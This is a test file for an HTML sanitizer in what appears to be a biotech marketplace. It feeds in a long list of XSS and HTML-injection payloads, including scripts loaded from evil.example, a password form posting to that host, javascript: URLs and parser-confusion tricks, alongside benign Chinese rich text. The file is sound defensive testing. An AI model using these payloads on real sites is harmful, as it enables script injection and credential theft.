import { describe, expect, test } from 'vitest'
import { cleanHtml, fileUrlsIn, MAX_HTML_CHARS, textOf } from './rich-text.ts'

const FILE = '/files/open/202611/01a1fc73-5faa-7f6d-b53c-6477ef325021.png'
const CLIP = '/files/open/202611/01a1fc73-5faa-7f6d-b53c-6477ef325022.mp4'
const REL = 'rel="noopener noreferrer nofollow ugc" target="_blank"'

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  `<img src="${FILE}" onerror="alert(1)">`,
  `<img src="${FILE}?x=&quot;onerror=alert(1)">`,
  '<img src=https://evil.example/pixel.png>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) begin=0s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="http:/\\evil">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="x" style="position:fixed;inset:0;z-index:9999" onclick=alert(1)>x</a>',
  '<a target="_self" rel="opener" href="https://evil.example">x</a>',
  '<a id="location" name="body" href="/x">clobber</a>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)//></video>',
  '<audio src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "javascript:alert(1)"</style><style onload=alert(1)></style>',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">x</div>',
  '<p style="color:red;behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>',
  '<p style="font-size:900px;margin-left:-9999px;transform:scale(99)">x</p>',
  '<span style="color:rgb(0,0,0);background-image:url(https://evil.example/p.gif)">x</span>',
  '<span style="c\\6flor:red;x:\\65xpression(alert(1))">x</span>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html><head><script>alert(1)</script></head><body background="javascript:alert(1)">x</body></html>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<p onmouseover="alert(1)" class="ant-modal" id="root" data-x="1">x</p>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<x onclick=alert(1)>unknown</x>',
  '<custom-element onload=alert(1)></custom-element>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<b <script>alert(1)</script>0</b>',
  '<a/onmouseover=alert(1)//href="x">x</a>',
  '<img/src="x"/onerror=alert(1)//',
  '<code class="language-js onload-x" onclick=alert(1)>x</code>',
  `${'<div>'.repeat(500)}<script>alert(1)</script>`,
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<\0script>alert(1)</script>',
  '<img src="/files/../api/oauth/anno/logout">',
  '<img src="/files/closed/202611/01a1fc73-5faa-7f6d-b53c-6477ef325021.png?e=1&s=x">',
]

/** The whole grammar of what may come out. What does not match it from end to end is a fault. */
const STYLE = '(?:[a-z-]+:[\\w#.%(), -]+(?:;(?=[a-z])|(?=")))*'
const ATTRIBUTE =
  `(?: (?:style="${STYLE}"|href="(?:https?://|/(?![/\\\\]))[^"<>]*"|title="[^"<>]*"|rel="noopener noreferrer nofollow ugc"|target="_blank"` +
  `|src="/files/open/[\\w/.-]+"|poster="/files/open/[\\w/.-]+"|alt="[^"<>]*"|width="\\d+%?"|height="\\d+%?"|loading="lazy"|controls(?:="")?` +
  '|preload="metadata"|type="[\\w/]+"|(?:col|row)?span="\\d+"|start="\\d+"|class="language-[\\w-]+"|data-w-e-type="video"|data-w-e-is-void(?:="\\w*")?))'
const TAG =
  '(?:p|h[1-6]|blockquote|li|div|t[dhr]|thead|tbody|tfoot|span|strong|em|b|i|u|s|del|su[bp]|code|mark|small|ul|ol|table|caption|colgroup|col|pre|hr|br|a|img|video|source|figure|figcaption)'
const CLEAN = new RegExp(`^(?:[^<>]|<${TAG}${ATTRIBUTE}* ?/?>|</${TAG}>)*$`)
const FORBIDDEN_STYLE = /style="[^"]*(?:url|expression|position|behavior|binding|import|transform|margin|z-index|\\)/i

describe('a hostile text', () => {
  test(`keeps nothing that runs, loads or covers the page (${payloads.length} payloads)`, () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60)
    for (const payload of payloads) {
      for (const wrapped of [
        payload,
        `<p>前文</p>${payload}<p>后文</p>`,
        `<table><tbody><tr><td>${payload}</td></tr></tbody></table>`,
      ]) {
        const clean = cleanHtml(wrapped)
        expect(clean, payload).toMatch(CLEAN)
        expect(clean, payload).not.toMatch(FORBIDDEN_STYLE)
        expect(cleanHtml(clean), `twice: ${payload}`).toBe(clean)
      }
    }
  })

  test('cannot take long or deep: nesting is cut, size is refused', () => {
    const started = performance.now()
    cleanHtml('<div>'.repeat(40_000))
    cleanHtml(`<a href="${'x'.repeat(190_000)}">`)
    cleanHtml('<p style="'.repeat(19_000))
    cleanHtml('&'.repeat(190_000))
    expect(performance.now() - started).toBeLessThan(4000)
    expect(() => cleanHtml('x'.repeat(MAX_HTML_CHARS + 1))).toThrow('提交的内容过大')
  })
})

const honest = [
  '<p>求购重组人胰岛素标准品，纯度≥98%，需提供COA。</p>',
  '<h1>一级标题</h1><h2>二级</h2><h3>三级</h3><h4>四级</h4><h5>五级</h5><h6>六级</h6>',
  '<p><strong>加粗</strong><em>斜体</em><u>下划线</u><s>删除线</s><sub>2</sub><sup>+</sup></p>',
  '<p>H<sub>2</sub>O 与 Ca<sup>2+</sup>，5′-ATGC-3′，α-淀粉酶，±0.5 ℃</p>',
  '<p style="text-align:center"><span style="color:rgb(255, 106, 0);font-size:24px">居中大字</span></p>',
  '<p style="text-indent:2em;line-height:1.5">首行缩进两字。</p>',
  '<p><span style="background-color:rgb(255, 255, 0)">高亮</span>与<span style="color:#c2410c">橙色</span></p>',
  '<ul><li>无血清培养基</li><li>胎牛血清<ul><li>500 mL</li></ul></li></ul>',
  '<ol start="3"><li>第三步</li><li>第四步</li></ol>',
  '<blockquote>引用：GB/T 14233.1-2008</blockquote>',
  '<table style="width:100%"><thead><tr><th>货号</th><th colspan="2">规格</th></tr></thead><tbody><tr><td rowspan="2" style="text-align:right">A-01</td><td>1 mg</td><td>¥ 980</td></tr><tr><td>5 mg</td><td>面议</td></tr></tbody></table>',
  '<table><colgroup><col width="120" /><col width="80" /></colgroup><tbody><tr><td width="60">x</td></tr></tbody></table>',
  `<p><img src="${FILE}" alt="电泳图" width="600" height="371" loading="lazy" /></p>`,
  `<p><img src="${FILE}" alt="" style="width:50%" loading="lazy" /></p>`,
  `<figure><img src="${FILE}" alt="x" loading="lazy" /><figcaption>图1 纯化流程</figcaption></figure>`,
  `<p><a href="https://doi.org/10.1038/s41586-020-2649-2" title="文献" ${REL}>参考文献</a></p>`,
  '<p><a href="/website/goods/1?from=text#top">站内商品</a></p>',
  `<p><a href="http://example.com/a?b=1&amp;c=2" ${REL}>链接</a></p>`,
  '<pre><code class="language-python">print("A &lt; B &amp;&amp; C &gt; D")</code></pre>',
  '<p>温度 2&lt;T&lt;8 ℃，R&amp;D 部门，pH 7.4 &gt; 6.8</p>',
  '<p>第一行<br />第二行</p><hr /><p>第三行</p>',
  `<video src="${CLIP}" controls="" preload="metadata" width="640"></video>`,
  `<video controls="" preload="metadata"><source src="${CLIP}" type="video/mp4" /></video>`,
  `<div data-w-e-type="video" data-w-e-is-void><video controls="" preload="metadata" width="640"><source src="${CLIP}" type="video/mp4" /></video></div>`,
  '<div><p>段落</p><p>😀 emoji 与生僻字 𠮷</p></div>',
  '<p>CAS 7732-18-5；EC 3.4.21.4；v/v；Q-Q plot；pcDNA3.1(+)</p>',
  '<p><mark>重点</mark>，<small>小字</small>，<del>旧价</del></p>',
]

describe('an honest text', () => {
  test(`comes out as it went in (${honest.length} texts)`, () => {
    expect(honest.length).toBeGreaterThanOrEqual(20)
    for (const html of honest) {
      // an empty attribute may be written with or without its empty value
      const plain = (text: string) => text.replaceAll('=""', '')
      expect(plain(cleanHtml(html))).toBe(plain(html))
    }
  })

  test('pasted from Word or 公众号 keeps its words and loses its dress', () => {
    const word =
      '<p class="MsoNormal" style="mso-pagination:widow-orphan;margin-left:21pt"><o:p></o:p><span lang="EN-US" style="font-family:Calibri;color:#333333">CHO 细胞</span></p>'
    expect(cleanHtml(word)).toBe('<p><span style="color:#333333">CHO 细胞</span></p>')
    const wechat = `<section data-role="outer" style="position:relative"><img data-src="https://mmbiz.qpic.cn/x" src="${FILE}?w=600" class="rich_pages"/><section>正文</section></section>`
    expect(cleanHtml(wechat)).toBe(`<div><img src="${FILE}" loading="lazy" /><div>正文</div></div>`)
  })
})

describe('the words of a text', () => {
  test('stand on lines as blocks do, decoded, without code', () => {
    expect(
      textOf(
        '<h2>标题</h2><p>A&nbsp;&lt;&nbsp;B &amp; C<br>第二行</p><script>alert(1)</script><ul><li>一</li><li>二</li></ul>',
      ),
    ).toBe('标题\nA < B & C\n第二行\n一\n二')
    expect(textOf('<table><tr><td>货号</td><td>规格</td></tr><tr><td>A1</td><td>1 mg</td></tr></table>')).toBe(
      '货号 规格\nA1 1 mg',
    )
    expect(textOf('')).toBe('')
    expect(textOf('&amp;lt;b&amp;gt;')).toBe('&lt;b&gt;')
  })

  test('and its files are found for claiming', () => {
    expect(
      fileUrlsIn(cleanHtml(`<img src="${FILE}"><img src="${FILE}?w=9"><video poster="${FILE}" src="${CLIP}">`)),
    ).toEqual([FILE, CLIP])
  })
})
